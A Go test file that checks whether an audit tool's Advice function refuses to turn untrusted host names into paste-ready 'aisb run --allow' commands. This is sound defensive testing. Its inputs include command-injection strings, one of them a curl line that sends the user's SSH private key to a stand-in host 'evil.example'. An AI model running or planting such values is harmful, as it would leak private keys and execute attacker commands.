package audit

import (
	"strings"
	"testing"
)

// TestAdviceHostileHost: a host from traffic becomes a paste-ready command
// only when it passes the allowlist grammar; otherwise it is quoted data.
func TestAdviceHostileHost(t *testing.T) {
	for _, host := range []string{"x.io;curl$IFS-d@$HOME/.ssh/id_rsa$IFS" + "evil.example", "x.io`id`", "$(id).example", "a b.example", "X.IO"} {
		a := Advice(Event{Rule: RuleNotListed, Host: host})
		if strings.Contains(a, "aisb run") || strings.Contains(a, "--allow") {
			t.Errorf("host %q: advice is a command: %s", host, a)
		}
		if !strings.Contains(a, `"`) {
			t.Errorf("host %q: advice does not quote it: %s", host, a)
		}
	}
	if a := Advice(Event{Rule: RuleNotListed, Host: "api.example.com"}); !strings.Contains(a, "aisb run --allow api.example.com") {
		t.Errorf("a valid host gets no command: %s", a)
	}
}
